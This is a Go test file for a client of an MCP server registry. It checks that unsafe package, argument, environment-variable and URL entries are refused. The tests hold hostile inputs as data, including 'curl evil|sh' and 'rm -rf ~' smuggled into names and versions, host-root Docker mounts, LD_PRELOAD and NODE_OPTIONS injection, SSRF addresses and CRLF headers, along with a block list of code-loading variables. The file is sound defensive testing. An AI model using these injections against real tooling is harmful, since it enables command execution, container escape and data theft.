package registry_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"
	"pgregory.net/rapid"

	"collie/internal/source/upstream/entry"
	"collie/internal/source/upstream/registry"
	"collie/internal/source/upstream/registry/registrytest"
	"collie/internal/tool"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// newClient returns a client of the registry at address.
func newClient(t *testing.T, address string) *registry.Client {
	t.Helper()
	c, err := registry.New(address)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// answerFor returns a registry's answer about one server, to which more adds members.
func answerFor(name, version, more string) string {
	return fmt.Sprintf(`{"server": {"name": %q, "version": %q, "description": "d"%s}}`, name, version, more)
}

// A search returns the newest version of each server, in pages.
func TestSearch(t *testing.T) {
	t.Parallel()
	c := newClient(t, registrytest.Serve(
		t, answerFor("a.b/notes-1", "1.0.0", ""), answerFor("a.b/notes-1", "2.0.0", ""), answerFor("a.b/other", "1.0.0", ""),
		answerFor("a.b/notes-2", "1.0.0", ""), answerFor("a.b/notes-3", "1.0.0", ""), registrytest.Weather,
	))
	var got []string
	cursor := ""
	for {
		page, err := c.Search(t.Context(), "notes", 2, cursor)
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range page.Servers {
			got = append(got, s.Name+"@"+s.Version)
		}
		if cursor = page.Next; cursor == "" {
			break
		}
	}
	if want := []string{"a.b/notes-1@2.0.0", "a.b/notes-2@1.0.0", "a.b/notes-3@1.0.0"}; !slices.Equal(got, want) {
		t.Errorf("found %q, want %q", got, want)
	}
	page, err := c.Search(t.Context(), "weather", 30, "")
	want := registry.Found{
		Name: "io.github.example/mcp-server-weather", Version: "1.2.3", Title: "天气", Description: "Weather of today and tomorrow",
		Ways: []registry.Kind{registry.NPM, registry.OCI, registry.Remote}, Status: "active", Repository: "https://github.com/example/weather",
	}
	if err != nil || len(page.Servers) != 1 {
		t.Fatalf("%+v, %v", page, err)
	}
	if diff := cmp.Diff(want, page.Servers[0]); diff != "" {
		t.Error(diff)
	}
}

// Servers in an unexpected form are left out of a page, also where there are no others.
func TestSearchLeavesOut(t *testing.T) {
	t.Parallel()
	c := newClient(t, registrytest.Serve(t, answerFor("a.b/odd", "1 0", ""), answerFor("_a/odd", "1.0.0", "")))
	if page, err := c.Search(t.Context(), "odd", 30, ""); err != nil || len(page.Servers) != 0 || page.LeftOut != 2 {
		t.Errorf("%+v, %v", page, err)
	}
}

// The latest version of a server has no version in its name, or "latest" as at npm.
func TestGetLatest(t *testing.T) {
	t.Parallel()
	c := newClient(t, registrytest.Serve(t, answerFor("a.b/c", "1.0.0", ""), answerFor("a.b/c", "2.0.0", "")))
	for version, want := range map[string]string{"": "2.0.0", "latest": "2.0.0", "1.0.0": "1.0.0"} {
		if s, err := c.Get(t.Context(), "a.b/c", version); err != nil || s.Version != want {
			t.Errorf("%q: %+v, %v", version, s, err)
		}
	}
}

// The inputs that a person gives become an entry for each way to run a server. Missing and wrong inputs are
// refused.
func TestEntry(t *testing.T) {
	t.Parallel()
	c := newClient(t, registrytest.Serve(t, registrytest.Weather))
	s, err := c.Get(t.Context(), "io.github.example/mcp-server-weather", "")
	if err != nil {
		t.Fatal(err)
	}
	const about = `"description":"Weather of today and tomorrow","registry":"io.github.example/mcp-server-weather@1.2.3",`
	tests := []struct {
		way   int
		given map[string]string
		want  string
	}{
		{0, map[string]string{"WEATHER_API_KEY": "${secret:K}"}, `"command":"npx","args":["-y","@example/weather@1.2.3","--units","metric","serve"],"env":{"WEATHER_API_KEY":"${secret:K}"}`},
		{
			0,
			map[string]string{"WEATHER_API_KEY": "k", "units": "imperial", "WEATHER_CACHE": "/tmp/w"},
			`"command":"npx","args":["-y","@example/weather@1.2.3","--units","imperial","serve"],"env":{"WEATHER_API_KEY":"k","WEATHER_CACHE":"/tmp/w"}`,
		},
		{1, map[string]string{"WEATHER_API_KEY": "k"}, `"command":"docker","args":["run","-i","--rm","-e","WEATHER_API_KEY","ghcr.io/example/weather:1.2.3"],"env":{"WEATHER_API_KEY":"k"}`},
		{2, map[string]string{"key": "${secret:K}"}, `"type":"http","url":"https://eu.weather.example.com/mcp","headers":{"Authorization":"Bearer ${secret:K}"}`},
	}
	for _, tt := range tests {
		w := s.Ways()[tt.way]
		got, err := s.Entry(&w, tt.given, nil, nil)
		if want := "{" + about + tt.want + "}"; err != nil || string(got) != want {
			t.Errorf("%s: %v\n got %s\nwant %s", w.Kind, err, got, want)
		}
	}
	for _, tt := range []struct {
		way   int
		given map[string]string
		want  string
	}{
		{0, nil, "WEATHER_API_KEY"},
		{0, map[string]string{"WEATHER_API_KEY": "k", "units": "kelvin"}, "one of metric, imperial"},
		{0, map[string]string{"WEATHER_API_KEY": "k", "unit": "metric"}, "asks for no such input"},
		{0, map[string]string{"WEATHER_API_KEY": "k\x1b[2J"}, "control characters"},
		{2, map[string]string{"key": "k", "region": "evil.example/"}, "one of eu, us"},
	} {
		w := s.Ways()[tt.way]
		if got, err := s.Entry(&w, tt.given, nil, nil); err == nil || !strings.Contains(err.Error()+hint(err), tt.want) {
			t.Errorf("%v: %s, %v, want %q", tt.given, got, err, tt.want)
		}
	}
}

// hint returns the hint and the subject of an error.
func hint(err error) string {
	if e, ok := err.(*tool.Error); ok { //nolint:errorlint // it is returned as it is
		return e.Hint + e.Subject
	}
	return ""
}

// ways returns the ways of a server with these members.
func ways(t *testing.T, more string) []registry.Way {
	t.Helper()
	s, err := newClient(t, registrytest.Serve(t, answerFor("a.b/c", "1.0.0", ","+more))).Get(t.Context(), "a.b/c", "1.0.0")
	if err != nil {
		t.Fatalf("%s: %v", more, err)
	}
	return s.Ways()
}

// npm is a package that is accepted. Cases add members to it.
const npm = `"registryType": "npm", "identifier": "x", "version": "1.0.0", "transport": {"type": "stdio"}`

// TestRefused asks for servers that would run or reach something else than the package or the address that they show.
func TestRefused(t *testing.T) {
	t.Parallel()
	pack := func(members string) string { return `"packages": [{` + members + `}]` }
	remote := func(address, more string) string {
		return fmt.Sprintf(`"remotes": [{"type": "streamable-http", "url": %q%s}]`, address, more)
	}
	tests := map[string]string{
		// names and versions
		pack(`"registryType": "npm", "identifier": "--call=curl evil|sh", "version": "1.0.0"`):                      "exact version",
		pack(`"registryType": "npm", "identifier": "-c", "version": "1.0.0"`):                                       "exact version",
		pack(`"registryType": "npm", "identifier": "git+https://evil.example/x", "version": "1.0.0"`):               "exact version",
		pack(`"registryType": "npm", "identifier": "../../tmp/x", "version": "1.0.0"`):                              "exact version",
		pack(`"registryType": "npm", "identifier": "x", "version": "latest"`):                                       "exact version",
		pack(`"registryType": "npm", "identifier": "x", "version": "^1.0.0"`):                                       "exact version",
		pack(`"registryType": "npm", "identifier": "x", "version": "1.0.0 --registry=https://evil.example"`):        "exact version",
		pack(`"registryType": "npm", "identifier": "x", "version": "npm:evil@1.0.0"`):                               "exact version",
		pack(`"registryType": "npm", "identifier": "x"`):                                                            "exact version",
		pack(`"registryType": "pypi", "identifier": "x[extra]", "version": "1.0"`):                                  "exact version",
		pack(`"registryType": "pypi", "identifier": "-x", "version": "1.0"`):                                        "exact version",
		pack(`"registryType": "pypi", "identifier": "x", "version": "1.*"`):                                         "exact version",
		pack(`"registryType": "pypi", "identifier": "x", "version": "1.0 ; rm -rf ~"`):                              "exact version",
		pack(`"registryType": "oci", "identifier": "--privileged", "version": "1"`):                                 "exact version",
		pack(`"registryType": "oci", "identifier": "example/x"`):                                                    "exact version",
		pack(`"registryType": "oci", "identifier": "example/x:latest"`):                                             "exact version",
		pack(`"registryType": "oci", "identifier": "example/x@sha256:abc"`):                                         "exact version",
		pack(`"registryType": "mcpb", "identifier": "https://github.com/x/y.mcpb", "version": "1.0.0"`):             "cannot be run from here",
		pack(`"registryType": "sh", "identifier": "curl evil", "version": "1.0.0"`):                                 "cannot be run from here",
		pack(`"registry_type": "npm", "identifier": "x", "version": "1.0.0"`):                                       "cannot be run from here",
		pack(`"registryType": "remote", "identifier": "x", "version": "1.0.0"`):                                     "unknown",
		pack(fmt.Sprintf(`"registryType": "npm", "identifier": %q, "version": "1.0.0"`, strings.Repeat("x", 5000))): "too long",
		// what runs it
		pack(npm + `, "runtimeHint": "bash"`):                         `run by "bash"`,
		pack(npm + `, "runtimeHint": "/tmp/npx"`):                     `run by "/tmp/npx"`,
		pack(npm + `, "registryBaseUrl": "https://npm.evil.example"`): "npm.evil.example",
		pack(`"registryType": "npm", "identifier": "x", "version": "1.0.0", "transport": {"type": "streamable-http", "url": "http://localhost"}`):                                                                  "expected stdio",
		pack(npm + `, "runtimeArguments": [{"type": "named", "name": "--registry", "value": "https://evil.example"}]`):                                                                                             "--registry",
		pack(npm + `, "runtimeArguments": [{"type": "positional", "value": "--package=evil"}]`):                                                                                                                    "--package=evil",
		pack(npm + `, "runtimeArguments": [{"type": "named", "name": "-c", "value": "sh"}]`):                                                                                                                       "-c sh",
		pack(`"registryType": "oci", "identifier": "e/x:1", "runtimeArguments": [{"type": "named", "name": "-v", "value": "/:/host"}]`):                                                                            "-v /:/host",
		pack(`"registryType": "oci", "identifier": "e/x:1", "runtimeArguments": [{"type": "named", "name": "--mount", "value": "type=bind,src=/,dst=/h"}]`):                                                        "--mount",
		pack(`"registryType": "oci", "identifier": "e/x:1", "runtimeArguments": [{"type": "named", "name": "-v", "value": "{src}:/host", "variables": {"src": {"value": "/"}}}]`):                                  "-v {src}:/host",
		pack(`"registryType": "oci", "identifier": "e/x:1", "runtimeArguments": [{"type": "named", "name": "--volume", "value": "{src}:/host"}]`):                                                                  "--volume {src}:/host",
		pack(`"registryType": "oci", "identifier": "e/x:1", "runtimeArguments": [{"type": "named", "name": "--mount", "value": "type=bind,src={a},dst={b}", "variables": {"a": {}, "b": {"value": "/h,src=/"}}}]`): "--mount type=bind",
		pack(`"registryType": "oci", "identifier": "e/x:1", "runtimeArguments": [{"type": "named", "name": "--network", "value": "host"}]`):                                                                        "--network",
		pack(`"registryType": "oci", "identifier": "e/x:1", "runtimeArguments": [{"type": "positional", "value": "--privileged"}]`):                                                                                "--privileged",
		pack(`"registryType": "oci", "identifier": "e/x:1", "runtimeArguments": [{"type": "named", "name": "-e", "value": "LD_PRELOAD=/x"}]`):                                                                      "LD_PRELOAD",
		// arguments and variables
		pack(npm + `, "packageArguments": [{"type": "named", "name": "--a b", "value": "x"}]`):                                                        "name of an argument",
		pack(npm + `, "packageArguments": [{"type": "shell", "value": "x"}]`):                                                                         "type of an argument",
		pack(npm + `, "packageArguments": [{"type": "positional", "value": "a\u001b]0;x\u0007"}]`):                                                    "control characters",
		pack(npm + `, "packageArguments": [{"type": "positional", "value": "a\u202eb"}]`):                                                             "control characters",
		pack(npm + `, "packageArguments": [{"type": "positional", "value": "${K}", "variables": {"K": {}}}]`):                                         "variable of the settings",
		pack(npm + fmt.Sprintf(`, "packageArguments": [{"type": "positional", "value": %q}]`, strings.Repeat("x", 5000))):                             "4096 bytes",
		pack(npm + `, "packageArguments": [` + strings.Repeat(`{"type": "positional", "value": "x"},`, 70) + `{"type": "positional", "value": "x"}]`): "more than 64",
		pack(npm + `, "environmentVariables": [{"name": "NODE_OPTIONS", "value": "--require /tmp/x.js"}]`):                                            "NODE_OPTIONS",
		pack(npm + `, "environmentVariables": [{"name": "npm_config_registry", "value": "https://evil.example"}]`):                                    "npm_config_registry",
		pack(npm + `, "environmentVariables": [{"name": "https_proxy", "value": "https://evil.example"}]`):                                            "https_proxy",
		pack(npm + `, "environmentVariables": [{"name": "PATH", "isRequired": true}]`):                                                                "PATH",
		pack(npm + `, "environmentVariables": [{"name": "A=B", "value": "x"}]`):                                                                       "name of a variable",
		// addresses
		remote("http://mcp.example.com/", ""):                                                         "expected an https URL",
		remote("file:///etc/passwd", ""):                                                              "expected an https URL",
		remote("https://user:pass@mcp.example.com/", ""):                                              "expected an https URL",
		remote("https://m\u0441p.example.com/mcp", ""):                                                "host in ASCII",
		remote("https://127.0.0.1/mcp", ""):                                                           "private network",
		remote("https://2130706433/mcp", ""):                                                          "private network",
		remote("https://0x7f.1/mcp", ""):                                                              "private network",
		remote("https://[::1]/mcp", ""):                                                               "private network",
		remote("https://[::ffff:10.0.0.1]/mcp", ""):                                                   "private network",
		remote("https://169.254.169.254/latest", ""):                                                  "private network",
		remote("https://LOCALHOST./mcp", ""):                                                          "private network",
		remote("https://router.lan/mcp", ""):                                                          "private network",
		remote("https://{h}.example.com/", `, "variables": {"h": {"value": "127.0.0.1/x?"}}`):         "private network",
		remote("https://{h}.example.com/${y}", `, "variables": {"h": {"value": "127.0.0.1/x?"}}`):     "private network",
		remote("https://intranet/mcp", ""):                                                            "private network",
		remote("unix:///run/docker.sock", ""):                                                         "expected an https URL",
		`"remotes": [{"type": "websocket", "url": "wss://x"}]`:                                        "websocket",
		remote("https://mcp.example.com/", `, "headers": [{"name": "Host", "value": "x"}]`):           "Host",
		remote("https://mcp.example.com/", `, "headers": [{"name": "Mcp-Session-Id", "value": "x"}]`): "Mcp-Session-Id",
		remote("https://mcp.example.com/", `, "headers": [{"name": "X\r\nY", "value": "x"}]`):         "name of a header",
		remote("https://mcp.example.com/", `, "headers": [{"name": "X", "value": "a\r\nY: b"}]`):      "control characters",
	}
	for more, want := range tests {
		t.Run(want, func(t *testing.T) {
			t.Parallel()
			w := ways(t, more)[0]
			if !strings.Contains(w.Refused, want) {
				t.Errorf("%s\n is %+v, refused for %q, want %q", more, w, w.Refused, want)
			}
			if got, err := (&registry.Server{}).Entry(&w, nil, nil, nil); err == nil {
				t.Errorf("%s is the entry %s", more, got)
			}
		})
	}
}

// These packages become entries, with each argument and variable as the registry has it.
func TestAccepted(t *testing.T) {
	t.Parallel()
	sum := "sha256:" + strings.Repeat("0a", 32)
	for more, want := range map[string]string{
		`{"registryType": "pypi", "identifier": "weather-mcp", "version": "0.5.0rc1", "runtimeHint": "uvx"}`:                                   `"uvx","args":["weather-mcp==0.5.0rc1"]`,
		`{"registryType": "npm", "identifier": "x", "version": "1.0.0-beta.1+2", "runtimeArguments": [{"type": "positional", "value": "-y"}]}`: `"npx","args":["-y","x@1.0.0-beta.1+2"]`,
		`{"registryType": "oci", "identifier": "example/db", "version": "3.1.0", "registryBaseUrl": "https://docker.io"}`:                      `"docker","args":["run","-i","--rm","example/db:3.1.0"]`,
		`{"registryType": "oci", "identifier": "ghcr.io:443/e/db@` + sum + `"}`:                                                                `"docker","args":["run","-i","--rm","ghcr.io:443/e/db@` + sum + `"]`,
		`{"registryType": "oci", "identifier": "e/db:1", "runtimeArguments": [
			{"type": "named", "name": "--mount", "value": "type=bind,src={dir},dst=/project", "variables": {"dir": {"default": "/home/me/x"}}}]}`: `["run","-i","--rm","--mount","type=bind,src=/home/me/x,dst=/project","e/db:1"]`,
		`{"registryType": "oci", "identifier": "e/db:1", "runtimeArguments": [{"type": "named", "name": "-e", "value": "KIND=pg"}]}`: `["run","-i","--rm","-e","KIND","e/db:1"],"env":{"KIND":"pg"}`,
		// No shell sees an argument, and no variable in it is expanded.
		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", "packageArguments": [{"type": "positional", "value": "; rm -rf ~ $(id) ${secret:GITHUB_TOKEN}"}]}`:      `"x@1.0.0","; rm -rf ~ $(id) $${secret:GITHUB_TOKEN}"]`,
		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", "environmentVariables": [{"name": "A", "value": "$${HOME}{b}", "variables": {"b": {"value": "{c}"}}}]}`: `"env":{"A":"$$${HOME}{c}"}`,
		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", "environmentVariables": [{"name": "A", "value": "${b}", "variables": {"b": {"value": "{secret:X}"}}}]}`: `"env":{"A":"$${secret:X}"}`,
	} {
		s, err := newClient(t, registrytest.Serve(t, answerFor("a.b/c", "1.0.0", `, "packages": [`+more+`]`))).Get(t.Context(), "a.b/c", "")
		if err != nil {
			t.Fatal(err)
		}
		w := s.Ways()[0]
		got, err := s.Entry(&w, nil, nil, nil)
		if err != nil || !strings.Contains(string(got), want) {
			t.Errorf("%s: %v\n got %s\nwant %s", more, err, got, want)
		}
	}
}

// TestRulingVariables: variables that make programs load other code, or settings from another place, are refused.
func TestRulingVariables(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		"LD_AUDIT", "DYLD_INSERT_LIBRARIES", "GCONV_PATH", "GLIBC_TUNABLES", "DOTNET_STARTUP_HOOKS", "CORECLR_PROFILER_PATH", "JDK_JAVA_OPTIONS", "CLASSPATH",
		"COREPACK_NPM_REGISTRY", "BUN_CONFIG_REGISTRY", "BUNDLE_GEMFILE", "GOFLAGS", "SSLKEYLOGFILE", "OPENSSL_CONF", "SSH_ASKPASS", "BROWSER", "XDG_CONFIG_HOME",
		"AppData", "ComSpec", "PATHEXT", "SystemRoot", "PSModulePath",
	} {
		w := ways(t, `"packages": [{"registryType": "npm", "identifier": "x", "version": "1.0.0", "environmentVariables": [{"name": "`+name+`", "default": "x"}]}]`)[0]
		if !strings.Contains(w.Refused, name) {
			t.Errorf("%s is refused for %q", name, w.Refused)
		}
	}
	for _, name := range []string{"SSH_HOST", "BUNDLE_ID", "DENO_DEPLOY_TOKEN", "BROWSER_TYPE"} {
		w := ways(t, `"packages": [{"registryType": "npm", "identifier": "x", "version": "1.0.0", "environmentVariables": [{"name": "`+name+`", "default": "x"}]}]`)[0]
		if w.Refused != "" {
			t.Errorf("%s is refused for %q, and rules nothing", name, w.Refused)
		}
	}
}

// TestAnswers asks servers that are not a registry, or whose answers cannot be used.
func TestAnswers(t *testing.T) {
	t.Parallel()
	say := func(status int, text string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(status)
			_, _ = w.Write([]byte(text))
		}
	}
	redirect := func(to string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, to, http.StatusFound) }
	}
	tests := map[string]struct {
		handler http.HandlerFunc
		kind    tool.ErrorKind
		want    string
	}{
		"html":            {say(200, "<html>Sign in to the WLAN</html>"), tool.Upstream, "not JSON"},
		"empty":           {say(200, ""), tool.Upstream, "not JSON"},
		"an array":        {say(200, "[]"), tool.Upstream, "another form"},
		"other types":     {say(200, `{"servers": {"a": 1}, "server": "x"}`), tool.Upstream, "another form"},
		"no servers":      {say(200, `{"ok": true}`), tool.Upstream, "API v0.1"},
		"old shape":       {say(200, `{"servers": [{"name": "a.b/c", "version": "1.0.0"}], "name": "a.b/c"}`), tool.Upstream, "API v0.1"},
		"bad names":       {say(200, `{"servers": [{"server": {"title": "--flag", "version": "1"}}], "server": {"name": "--flag", "version": "1"}}`), tool.Upstream, "API v0.1"},
		"another server":  {say(200, `{"servers": [{"server": {"name": "", "version": ""}}], "server": {"name": "a.b/other", "version": "1.0.0"}}`), tool.Upstream, "API v0.1"},
		"a cursor":        {say(200, `{"servers": [], "metadata": {"nextCursor": "1\u001b[31m"}, "server": {"name": "x", "version": "\u001b"}}`), tool.Upstream, "API v0.1"},
		"huge":            {say(200, `{"servers": [`+strings.Repeat(" ", 5<<20)+`]}`), tool.Upstream, "4 MiB"},
		"deep":            {say(200, strings.Repeat("[", 1<<20)), tool.Upstream, "not JSON"},
		"an error":        {say(500, `{"servers": []}`), tool.Upstream, "status 500"},
		"too many":        {say(429, ``), tool.Busy, "no more requests"},
		"another host":    {redirect("http://127.0.0.1:1/v0.1/servers"), tool.Unavailable, "another host"},
		"a private host":  {redirect("http://169.254.169.254/latest/meta-data"), tool.Unavailable, "another host"},
		"a file":          {redirect("file:///etc/passwd"), tool.Unavailable, "another host"},
		"round and round": {redirect("/v0.1/servers"), tool.Unavailable, "redirects"},
		"hangs up": {func(w http.ResponseWriter, _ *http.Request) {
			if conn, _, err := http.NewResponseController(w).Hijack(); err == nil {
				_ = conn.Close()
			}
		}, tool.Unavailable, "cannot be reached"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := httptest.NewServer(tt.handler)
			defer s.Close()
			c := newClient(t, s.URL)
			_, searched := c.Search(t.Context(), "x", 10, "")
			_, got := c.Get(t.Context(), "a.b/c", "")
			for _, err := range []error{searched, got} {
				if tool.KindOf(err) != tt.kind || !strings.Contains(err.Error(), tt.want) {
					t.Errorf("%v is %s, want %s with %q", err, tool.KindOf(err), tt.kind, tt.want)
				}
			}
		})
	}
	s := httptest.NewServer(http.NotFoundHandler())
	if _, err := newClient(t, s.URL).Search(t.Context(), "x", 10, ""); tool.KindOf(err) != tool.Upstream || !strings.Contains(err.Error(), "status 404") {
		t.Errorf("a search that is not found: %v", err)
	}
	if _, err := newClient(t, s.URL).Get(t.Context(), "a.b/c", ""); tool.KindOf(err) != tool.NotFound || !strings.Contains(err.Error(), "no such server") {
		t.Errorf("a server that is not found: %v", err)
	}
	s.Close()
	if _, err := newClient(t, s.URL).Search(t.Context(), "x", 10, ""); tool.KindOf(err) != tool.Unavailable {
		t.Errorf("offline: %v", err)
	}
	for _, name := range []string{"", "x", "a/b/c", "a.b/../c", "a.b/c?x=1", "-a/b", "a.b/c\n", strings.Repeat("a", 300) + "/b"} {
		if _, err := newClient(t, s.URL).Get(t.Context(), name, ""); tool.KindOf(err) != tool.Invalid {
			t.Errorf("%q: %v", name, err)
		}
	}
	for _, address := range []string{"", "registry.example.org", "http://registry.example.org", "ftp://x", "https://u:p@x", "https://x?y", "https://"} {
		if _, err := registry.New(address); tool.KindOf(err) != tool.Invalid {
			t.Errorf("%q: %v", address, err)
		}
	}
}

// TestTexts shows how texts with control sequences for the screen are displayed.
func TestTexts(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("天", 5000)
	text, _ := json.Marshal("a\x1b[31mred\x1b[0m\r\nb\u202ec\u200bd\u0000 " + long)
	page, err := newClient(t, registrytest.Serve(t, `{"server": {"name": "a.b/c", "version": "1.0.0", "description": `+string(text)+`}}`)).Search(t.Context(), "", 10, "")
	if err != nil {
		t.Fatal(err)
	}
	got := page.Servers[0].Description
	if !strings.HasPrefix(got, "a[31mred[0m bcd 天") || len([]rune(got)) > 400 || strings.ContainsFunc(got, func(r rune) bool { return !unicode.IsGraphic(r) }) {
		t.Errorf("%d characters: %q", len([]rune(got)), got)
	}
}

// TestRefusedPackageIsCleaned shows what is displayed of a package that is refused because of its name.
func TestRefusedPackageIsCleaned(t *testing.T) {
	t.Parallel()
	for _, kind := range []string{"npm", "pypi", "oci", "sh"} {
		w := ways(t, `"packages": [{"registryType": "`+kind+`", "identifier": "a\u001b[31m/b\u202e:c", "version": "1\u001b[0m"}]`)[0]
		if w.Refused == "" || strings.ContainsFunc(w.Package, func(r rune) bool { return !unicode.IsGraphic(r) }) {
			t.Errorf("%s: %q, refused for %q", kind, w.Package, w.Refused)
		}
	}
}

// wantNoVariables fails if an entry that was made without any input holds a variable or a secret.
func wantNoVariables(t interface{ Errorf(string, ...any) }, raw json.RawMessage) {
	look := func(name string) (string, bool) {
		t.Errorf("%s asks for %s", raw, name)
		return "", true
	}
	_, problems := entry.Parse("x", raw, entry.Options{Dir: "/", Env: look, Secret: look, Input: look})
	for _, p := range problems {
		if p.Severity == entry.SeverityError {
			t.Errorf("%s: %s", raw, p.Message)
		}
	}
}

// TestNothingIsExpanded makes values of pieces that together could form a variable. None is expanded.
func TestNothingIsExpanded(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		piece := rapid.SampledFrom([]string{"$", "$$", "{", "}", "${", "{v}", "{w}", "secret:X", "HOME", "x", "$${", " "})
		value := rapid.Map(rapid.SliceOfN(piece, 0, 8), func(ps []string) string { return strings.Join(ps, "") })
		variable := map[string]any{"value": value.Draw(t, "v")}
		a := map[string]any{"type": "positional", "value": value.Draw(t, "value"), "variables": map[string]any{"v": variable, "w": map[string]any{"default": value.Draw(t, "w")}}}
		env := map[string]any{"name": "A", "value": a["value"], "variables": a["variables"]}
		text, err := json.Marshal(map[string]any{"server": map[string]any{"name": "a.b/c", "version": "1.0.0", "packages": []any{map[string]any{
			"registryType": "npm", "identifier": "x", "version": "1.0.0", "packageArguments": []any{a}, "environmentVariables": []any{env},
		}}}})
		if err != nil {
			t.Fatal(err)
		}
		s, err := registry.Read(text)
		if err != nil {
			t.Fatal(err)
		}
		w := s.Ways()[0]
		if w.Refused != "" {
			return
		}
		raw, err := s.Entry(&w, nil, nil, nil)
		if err != nil {
			t.Fatalf("%s: %v", text, err)
		}
		wantNoVariables(t, raw)
	})
}

// Whatever a registry answers, an entry made of it holds no variable and no secret.
func FuzzRead(f *testing.F) {
	f.Add([]byte(registrytest.Weather))
	f.Add([]byte(answerFor("a.b/c", "1.0.0", `, "packages": [{`+npm+`}]`)))
	f.Add([]byte(answerFor("a.b/c", "1.0.0", `, "remotes": [{"type": "sse", "url": "https://x.example.com/${HOME}/sse"}]`)))
	f.Fuzz(func(t *testing.T, text []byte) {
		s, err := registry.Read(text)
		if err != nil {
			return
		}
		for _, w := range s.Ways() {
			given := map[string]string{}
			for _, in := range w.Inputs {
				if in.Required && in.Default == "" {
					given[in.Key] = "x"
				}
			}
			raw, err := s.Entry(&w, given, nil, nil)
			if err == nil {
				wantNoVariables(t, raw)
			}
		}
	})
}
